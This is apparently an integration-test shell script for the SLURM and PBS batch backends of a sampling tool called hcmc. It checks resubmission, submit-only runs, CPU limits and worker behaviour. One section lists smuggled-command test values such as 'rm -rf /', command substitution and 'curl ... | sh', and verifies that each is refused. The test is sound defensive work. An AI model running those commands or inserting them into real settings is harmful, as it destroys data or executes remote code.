#!/bin/sh
# The batch backends on a real single-node SLURM cluster, started here and
# stopped by its recorded pids even when a check fails: hcmc run --backend
# slurm gives the bytes of a serial run; a job element killed mid-shard is
# resubmitted and the run succeeds; --submit-only with its dependent
# combine job gives the same result; the Torque dialect of pbs through
# Debian's qsub wrappers too; every injection attempt in a scheduler option
# is refused before anything is submitted; a pending job that can never
# start is reported, not waited on; hcmc worker does not redo a finished
# shard and redoes a damaged one.
. "$(dirname "$0")/cli_common.sh"
. "$here/slurm_cluster.sh"
cleanup() {
    [ -z "${SLURM_CONF:-}" ] || scancel --user=root 2> /dev/null || true
    slurm_stop "$dir/slurm"
    rm -rf "$dir"
}
trap cleanup EXIT
fail() {
    echo "cli_batch: FAILED: $*"
    for f in "$dir"/*.err; do
        [ -f "$f" ] && { echo "--- $f"; tail -20 "$f"; }
    done
    exit 1
}
t0=$(date +%s)
slurm_start "$dir/slurm" || fail "cannot start the test cluster"

# Low noise: the data pin D0, alpha and D_offset down, so the short test
# warmup converges on every shard and the pipeline's gates pass; what is
# tested here is the execution, not the sampler on a degenerate ridge.
"$hcmc" simulate -o s.h5 --mode static --frames 60 --angles 0,45,90 --noise 0.005 \
    --config-out s.yaml 2> /dev/null
printf 'optimization:\n  cmc:\n    enable: true\n' >> s.yaml
run() { # run NAME [OPTIONS]: one run into $dir/NAME
    name=$1
    shift
    finished "$hcmc" run --config s.yaml --num-shards 4 --num-warmup 80 --num-samples 80 \
        --set optimization.cmc.backend_config.slurm.poll_interval_max=1 \
        --set optimization.cmc.backend_config.slurm.cpus_per_task=1 \
        --set optimization.cmc.backend_config.pbs.poll_interval_max=1 \
        --set optimization.cmc.backend_config.pbs.ncpus=1 \
        -o "$dir/$name" "$@" > "$name.out" 2> "$name.err"
}
same() { # same A B: byte-identical draws, combined and per shard
    $py "$here/check_posterior.py" "$1/posterior.nc" "$2/posterior.nc" > /dev/null ||
        fail "$2 differs from $1"
}
say() { # a finished check, with the seconds since the cluster started
    echo "$* [$(($(date +%s) - t0)) s]"
}
queue_empty() {
    [ -z "$(squeue -h 2> /dev/null)" ]
}

# 1. slurm gives the serial bytes
run ref --backend serial || fail "serial run"
run slurm --backend slurm || fail "slurm run"
same ref slurm
grep -q "job [0-9]* submitted: 4 shards" slurm.err || fail "slurm: no submission logged"
[ -f slurm/batch/round_001.sbatch ] || fail "slurm: job script not kept"
grep -q '^#SBATCH --cpus-per-task=' slurm/batch/round_001.sbatch || fail "slurm: script"
[ "$(cat slurm/shards/shard_*.status | grep -c '"state": "ok"')" -eq 4 ] ||
    fail "slurm: status files"
say "slurm run: same draws as serial"

# 2. an element killed mid-shard is resubmitted; the result is unchanged
HCMC_TEST_BATCH_FAULT="2:$dir/killed.marker" run slurm_fault --backend slurm ||
    fail "slurm run with a killed element"
[ -f killed.marker ] || fail "the fault hook did not fire"
same ref slurm_fault
grep -q "shard 2: attempt 1 of job [0-9]*: .*submitted again" slurm_fault.err ||
    fail "no resubmission reported"
[ -f slurm_fault/batch/round_002.shards ] && [ "$(cat slurm_fault/batch/round_002.shards)" = 2 ] ||
    fail "the second round is not shard 2 alone"
say "slurm run: killed element resubmitted, same draws"

# 3. --submit-only: shard jobs plus a dependent combine job; returns at once
run submit --backend slurm --submit-only || fail "submit-only"
grep -q "combine job [0-9]* runs after it" submit.out || fail "submit-only: no combine job"
[ ! -f submit/posterior.nc ] || fail "submit-only waited for the result"
i=0
until [ -f submit/posterior.nc ] && queue_empty; do
    i=$((i + 1))
    [ $i -lt 600 ] || fail "submit-only: not combined after 120 s"
    sleep 0.2
done
"$hcmc" status submit > status.out || fail "status after the combine job"
grep -q "4 shards: 4 done" status.out || fail "status: $(cat status.out)"
grep -q "^verdict: " status.out || fail "status: no verdict: $(cat status.out)"
same ref submit
say "slurm --submit-only: combined by its dependent job, same draws"

# 4. pbs, Torque dialect, through the qsub/qstat wrappers over SLURM
if command -v qsub > /dev/null; then
    run pbs --backend pbs --set optimization.cmc.backend_config.pbs.dialect=torque ||
        fail "pbs (torque) run"
    same ref pbs
    grep -q '^#PBS -l nodes=1:ppn=' pbs/batch/round_001.pbs || fail "pbs: script"
    say "pbs (torque dialect) run: same draws as serial"
else
    fail "qsub not installed (slurm-wlm-torque; make deps installs it)"
fi
# the PBS Pro dialect's script (no PBS Pro server here): checked as text
run pbspro --backend pbs --set optimization.cmc.backend_config.pbs.walltime=2:00:00 \
    --set optimization.cmc.backend_config.pbs.memory=4gb \
    --set optimization.cmc.backend_config.pbs.queue=workq --submit-only ||
    true # qsub of the wrappers rejects -J; the script is written first
s=pbspro/batch/round_001.pbs
grep -q '^#PBS -l select=1:ncpus=[0-9]*:mem=4gb$' $s && grep -q '^#PBS -l walltime=2:00:00$' $s &&
    grep -q '^#PBS -q workq$' $s && grep -q "^exec '.*' worker '.*' --list '.*'$" $s ||
    fail "PBS Pro script: $(cat $s)"
scancel --user=root 2> /dev/null || true
say "pbs (PBS Pro dialect): script checked"

# 5. injection attempts: refused with a clear error, nothing submitted
before=$(ls "$dir/slurm/state" | wc -l)
for bad in 'time=1:00; rm -rf /' 'partition=debug$(touch /tmp/hcmc_pwned)' \
    'account=`id`' 'qos=a b' 'mem=4G
#SBATCH --wrap=id' 'extra=--wrap=id' 'extra=--comment=$(id)' \
    'setup=module load x; rm -rf /' 'setup=curl http://example.com|sh' \
    'executable=/bin/sh -c id'; do
    key=${bad%%=*}
    val=${bad#*=}
    if run inject --backend slurm --set "optimization.cmc.backend_config.slurm.$key=$val"; then
        fail "injection accepted: $bad"
    fi
    grep -q "slurm option $key" inject.err || fail "no clear message for $bad: $(cat inject.err)"
    [ ! -d inject/batch ] || fail "a job script was written for $bad"
    rm -rf inject
done
# the same from a configuration file, with the line of the key
cp s.yaml inj.yaml
printf '    backend_config:\n      slurm:\n        time: "1:00; rm -rf /"\n' >> inj.yaml
if "$hcmc" run --config inj.yaml --backend slurm -o inject > inject.out 2> inject.err; then
    fail "injection from the file accepted"
fi
grep -q "inj.yaml:[0-9]*.*slurm.time" inject.err || fail "file injection: $(cat inject.err)"
queue_empty || fail "something was submitted"
[ ! -e /tmp/hcmc_pwned ] || fail "an injected command ran"
say "injection attempts: all refused, nothing submitted"

# 6. a job that does not start within the run's timeout is cancelled and
# reported, not waited on (it may begin in an hour; the run waits 5 s)
if run stuck --backend slurm --set optimization.cmc.backend_config.slurm.extra=--begin=now+1hour \
    --set optimization.cmc.backend_config.slurm.timeout=5; then
    fail "a job that cannot start in time was waited on and succeeded"
fi
grep -q "waited over timeout = 5 s on the scheduler; job [0-9]* cancelled" stuck.err ||
    fail "stuck: $(cat stuck.err)"
queue_empty || fail "the waiting job was not cancelled"
say "job not started in time: reported ($(grep -o 'error: .*' stuck.err | head -c 120))"

# 6a. more CPUs asked for than a node has: refused before anything is
# submitted, with the node's figure (sinfo) and the setting to change
if run bigcpus --backend slurm --set optimization.cmc.backend_config.slurm.cpus_per_task=999; then
    fail "999 CPUs per job accepted"
fi
grep -q "slurm: cpus_per_task = 999, but the nodes of the default partition have $(nproc) CPUs" \
    bigcpus.err || fail "bigcpus: $(cat bigcpus.err)"
[ ! -e bigcpus/batch/round_001.sbatch ] || fail "bigcpus: a job script was written"
queue_empty || fail "bigcpus: something was submitted"
if run bigncpus --backend pbs --set optimization.cmc.backend_config.pbs.dialect=torque \
    --set optimization.cmc.backend_config.pbs.ncpus=999; then
    fail "999 CPUs per PBS job accepted"
fi
grep -q "pbs: ncpus = 999, but the nodes of the cluster have $(nproc) CPUs" bigncpus.err ||
    fail "bigncpus: $(cat bigncpus.err)"
queue_empty || fail "bigncpus: something was submitted"
say "999 CPUs per job: refused before submitting (slurm: sinfo, pbs: pbsnodes)"

# 6b. the default of one CPU per chain, with more chains than a node has
# CPUs, is cut to the node's CPUs (else the jobs would pend for ever)
chains=$(($(nproc) + 2))
run fewcpus --backend slurm --set optimization.cmc.backend_config.slurm.cpus_per_task=0 \
    --set optimization.cmc.backend_config.slurm.timeout=300 --num-chains $chains ||
    fail "default cpus on a small node: $(tail -3 fewcpus.err)"
grep -q "^#SBATCH --cpus-per-task=$(nproc)\$" fewcpus/batch/round_001.sbatch ||
    fail "fewcpus: $(grep cpus fewcpus/batch/round_001.sbatch)"
grep -q "have $(nproc) CPUs: shard jobs ask for $(nproc), and the $chains chains" fewcpus.err ||
    fail "fewcpus: no word on the CPUs"
say "default cpus cut to a node's $(nproc) CPUs for $chains chains"

# 7. hcmc worker: idempotent; a damaged shard file is detected and redone
"$hcmc" plan --config s.yaml --num-shards 4 --num-warmup 80 --num-samples 80 -o "$dir/w" \
    > plan.out 2> plan.err || fail "plan"
"$hcmc" worker w --shard 1 2> w1.err || fail "worker"
cp w/shards/shard_00001.h5 first.h5
"$hcmc" worker w --shard 1 2> w2.err || fail "worker, second time"
grep -q "done before" w2.err || fail "the second worker sampled again"
cmp -s first.h5 w/shards/shard_00001.h5 || fail "the second worker rewrote the file"
$py - w/shards/shard_00001.h5 << 'PY' || fail "could not damage the file"
import h5py, sys
with h5py.File(sys.argv[1], "r") as f:
    off = f["z"].id.get_chunk_info(0).byte_offset
with open(sys.argv[1], "r+b") as g:
    g.seek(off + 100)
    b = g.read(1)
    g.seek(off + 100)
    g.write(bytes([b[0] ^ 0xFF]))
PY
"$hcmc" worker w --shard 1 2> w3.err || fail "worker on a damaged file"
grep -q "damaged" w3.err || fail "the damage was not reported: $(cat w3.err)"
$py - first.h5 w/shards/shard_00001.h5 << 'PY' || fail "the redone shard's draws differ"
import h5py, sys
a, b = (h5py.File(p, "r") for p in sys.argv[1:3])
assert all((a[k][()] == b[k][()]).all() for k in ("z", "lp", "energy", "diverging"))
PY
if "$hcmc" worker w --shard 9 2> w4.err; then fail "shard 9 of 4 accepted"; fi
grep -q "has 4 shards" w4.err || fail "shard range message: $(cat w4.err)"
say "worker: not redone when finished, redone when damaged"
# SIGTERM (SLURM's warning before the walltime) to a worker that would run
# for minutes (two million warmup iterations): exit 75, status terminated,
# and the driver submits such a shard again (the same path as a killed one)
"$hcmc" plan --config s.yaml --num-shards 4 --num-warmup 2000000 --num-samples 1000 \
    -o "$dir/long" > /dev/null 2>&1 || fail "plan (long)"
"$hcmc" worker long --shard 0 2> term.err &
wpid=$!
i=0
until grep -q '"state": "running"' long/shards/shard_00000.status 2> /dev/null; do
    i=$((i + 1))
    [ $i -lt 300 ] || fail "the long worker did not start"
    sleep 0.1
done
sleep 0.5
kill -TERM $wpid
st=0
wait $wpid || st=$?
[ $st -eq 75 ] || fail "worker stopped by SIGTERM exited $st, not 75"
grep -q '"state": "terminated"' long/shards/shard_00000.status || fail "status after SIGTERM"
[ ! -f long/shards/shard_00000.h5 ] || fail "a shard file after SIGTERM"
say "worker: SIGTERM gives exit 75 and status terminated"

queue_empty || fail "jobs left in the queue"
echo "cli_batch: ok ($(($(date +%s) - t0)) s)"
